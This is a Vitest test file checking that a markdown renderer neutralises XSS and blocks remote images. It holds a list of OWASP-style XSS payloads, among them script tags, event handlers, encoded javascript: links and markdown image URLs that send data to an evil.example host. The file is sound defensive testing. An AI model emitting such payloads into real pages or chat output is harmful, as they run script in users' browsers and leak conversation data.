// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "./render";

/** Render and parse back into a detached DOM for inspection. */
function dom(markdown: string): HTMLElement {
  const html = renderMarkdown(markdown);
  const template = document.createElement("template");
  template.innerHTML = html;
  const root = document.createElement("div");
  root.append(template.content.cloneNode(true));
  return root;
}

function assertSafe(root: HTMLElement): void {
  for (const element of Array.from(root.querySelectorAll("*"))) {
    expect(["SCRIPT", "IFRAME", "OBJECT", "EMBED", "STYLE", "FORM", "SVG", "MATH", "BASE", "META", "LINK"]).not.toContain(
      element.tagName.toUpperCase(),
    );
    for (const attr of Array.from(element.attributes)) {
      expect(attr.name.toLowerCase().startsWith("on"), `${element.tagName} has ${attr.name}`).toBe(false);
      expect(attr.name.toLowerCase()).not.toBe("style");
      if (["href", "src", "action", "formaction", "xlink:href", "srcset"].includes(attr.name.toLowerCase())) {
        const value = attr.value.replace(/[\s\u0000-\u001f]/g, "").toLowerCase();
        expect(value.startsWith("javascript:"), `${attr.name}=${attr.value}`).toBe(false);
        expect(value.startsWith("vbscript:"), `${attr.name}=${attr.value}`).toBe(false);
        if (value.startsWith("data:")) {
          // The only data: URLs allowed are inline raster images.
          expect(element.tagName).toBe("IMG");
          expect(value).toMatch(/^data:image\/(png|gif|jpe?g|webp);base64,/);
        }
      }
    }
  }
}

// OWASP XSS filter evasion cheat sheet style payloads, as raw HTML and inside Markdown constructs.
const PAYLOADS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<IMG SRC=\"javascript:alert('XSS');\">",
  "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
  "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
  "<IMG SRC=# onmouseover=\"alert('xxs')\">",
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
  "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
  "<svg/onload=alert('XSS')>",
  "<BODY ONLOAD=alert('XSS')>",
  "<iframe src=\"javascript:alert('XSS');\"></iframe>",
  "<style>@import'http://xss.rocks/xss.css';</style>",
  "<div style=\"background-image: url(javascript:alert('XSS'))\">",
  "<object type=\"text/x-scriptlet\" data=\"http://xss.rocks/scriptlet.html\"></object>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<form><button formaction=javascript:alert(1)>x</button></form>",
  "<details open ontoggle=alert(1)>",
  "<base href=\"javascript:alert('XSS');//\">",
  "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](  javascript:alert(1)  )",
  "[click](java\tscript:alert(1))",
  "[click](&#106;avascript:alert(1))",
  "[click](javascript&colon;alert(1))",
  "[click](vbscript:msgbox(1))",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[click](file:///etc/passwd)",
  "[a](<javascript:alert(1)>)",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "![x](https://evil.example/leak?data=secret)",
  "[![x](https://evil.example/i.png)](javascript:alert(1))",
  "[x]: javascript:alert(1)\n\n[x]",
  "```html\n<script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  "> <img src=x onerror=alert(1)> [click](javascript:alert(1))",
  "| a | b |\n|---|---|\n| <script>x</script> | [y](javascript:alert(1)) |",
  "<a href=\"https://ok.example\" onclick=\"alert(1)\">x</a>",
  "\"><img src=x onerror=alert(1)>",
  "<!--<img src=x onerror=alert(1)>-->",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
];

describe("renderMarkdown: XSS", () => {
  it.each(PAYLOADS)("neutralises %s", (payload) => {
    const root = dom(payload);
    assertSafe(root);
    expect(root.querySelector("img:not([src^='data:image/'])")).toBeNull();
  });

  it("escapes raw HTML as text instead of dropping or rendering it", () => {
    const root = dom("hello <img src=x onerror=alert(1)> world");
    expect(root.querySelector("img")).toBeNull();
    expect(root.textContent).toContain("<img src=x onerror=alert(1)>");
  });

  it("leaves a javascript: link as plain text, without href", () => {
    const root = dom("[click](javascript:alert(1))");
    for (const a of Array.from(root.querySelectorAll("a"))) expect(a.getAttribute("href") ?? "").not.toMatch(/javascript/i);
    expect(root.textContent).toContain("[click](javascript:alert(1))");
  });

  it("survives many random payload combinations", () => {
    let seed = 7;
    const random = () => ((seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31);
    const wrappers = [(s: string) => s, (s: string) => `> ${s}`, (s: string) => `- ${s}`, (s: string) => `**${s}**`, (s: string) => `[${s}](https://x.example)`];
    for (let i = 0; i < 150; i++) {
      const parts = Array.from({ length: 3 }, () => {
        const payload = PAYLOADS[Math.floor(random() * PAYLOADS.length)];
        return wrappers[Math.floor(random() * wrappers.length)](payload);
      });
      assertSafe(dom(parts.join(random() < 0.5 ? "\n\n" : " ")));
    }
  });
});

describe("renderMarkdown: links and images", () => {
  it("opens safe links in a new tab without referrer or opener", () => {
    const a = dom("[docs](https://docs.python.org/3/)").querySelector("a")!;
    expect(a.getAttribute("href")).toBe("https://docs.python.org/3/");
    expect(a.getAttribute("target")).toBe("_blank");
    expect(a.getAttribute("rel")).toBe("noopener noreferrer nofollow");
  });

  it("linkifies bare URLs and keeps mailto", () => {
    const root = dom("see https://example.com/x and [me](mailto:a@b.c)");
    expect(Array.from(root.querySelectorAll("a")).map((a) => a.getAttribute("href"))).toEqual(["https://example.com/x", "mailto:a@b.c"]);
  });

  it("does not load remote images: shows a placeholder with a link instead", () => {
    const root = dom("![secret chart](https://evil.example/leak?q=conversation)");
    expect(root.querySelector("img")).toBeNull();
    const box = root.querySelector(".blocked-image")!;
    expect(box.textContent).toContain("Image not loaded: secret chart");
    expect(box.querySelector("a")!.getAttribute("href")).toBe("https://evil.example/leak?q=conversation");
  });

  it("does not load same-origin or relative images either", () => {
    const root = dom("![x](/api/me) ![y](//evil.example/a.png)");
    expect(root.querySelector("img")).toBeNull();
    expect(root.querySelectorAll(".blocked-image")).toHaveLength(2);
  });

  it("renders inline raster data: images (they cannot leak anything)", () => {
    const png = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";
    const img = dom(`![dot](${png})`).querySelector("img")!;
    expect(img.getAttribute("src")).toBe(png);
  });
});

describe("renderMarkdown: code, tables and item references", () => {
  it("highlights code blocks and adds a copy button", () => {
    const root = dom("```python\ndef f():\n    return 1\n```");
    const block = root.querySelector(".code-block")!;
    expect(block.querySelector(".code-lang")!.textContent).toBe("python");
    expect(block.querySelector("button[data-action='copy-code']")).not.toBeNull();
    expect(block.querySelector("pre code .hljs-keyword")!.textContent).toBe("def");
    expect(block.querySelector("pre code")!.textContent).toBe("def f():\n    return 1\n");
  });

  it("escapes code in unknown languages", () => {
    const root = dom("```nosuchlang\n<b>x</b>\n```");
    expect(root.querySelector("pre code b")).toBeNull();
    expect(root.querySelector("pre code")!.textContent).toBe("<b>x</b>\n");
  });

  it("renders tables inside a scrollable wrapper, without style attributes", () => {
    const root = dom("| a | b |\n|:--|--:|\n| 1 | 2 |");
    expect(root.querySelector(".table-wrap > table td")!.textContent).toBe("1");
    expect(root.querySelector("[style]")).toBeNull();
  });

  it("makes what may scroll sideways (code blocks, tables) reachable with the keyboard", () => {
    const root = dom("```python\nx = 1\n```\n\n| a |\n|---|\n| 1 |");
    expect(root.querySelector("pre")!.getAttribute("tabindex")).toBe("0");
    expect(root.querySelector("pre")!.getAttribute("aria-label")).toBe("python code");
    expect(root.querySelector(".table-wrap")!.getAttribute("tabindex")).toBe("0");
  });

  it("keeps line breaks: tool output is lines, not a paragraph to reflow", () => {
    const root = dom("commit abc123\nAuthor: Ada <ada@example.com>\nDate: Mon\n\nexit code 0 · 0.30 s\nstdout:\nhello");
    const paragraphs = Array.from(root.querySelectorAll("p"));
    expect(paragraphs).toHaveLength(2);
    expect(paragraphs[0].querySelectorAll("br")).toHaveLength(2);
    expect(paragraphs[1].innerHTML).toBe("exit code 0 · 0.30 s<br>\nstdout:<br>\nhello");
  });

  it("turns [q3-t1] references into buttons, but not inside code or links", () => {
    const root = dom("Here [q2-t1] and [ID:q1-r-sum], also [q3-t1, q3-t2]. `[q9-t9]` [q4](https://x.example)");
    const refs = Array.from(root.querySelectorAll("button.item-ref")).map((b) => b.getAttribute("data-item-ref"));
    expect(refs).toEqual(["q2-t1", "q1-r-sum", "q3-t1", "q3-t2"]);
    expect(root.querySelector("code")!.textContent).toBe("[q9-t9]");
  });
});
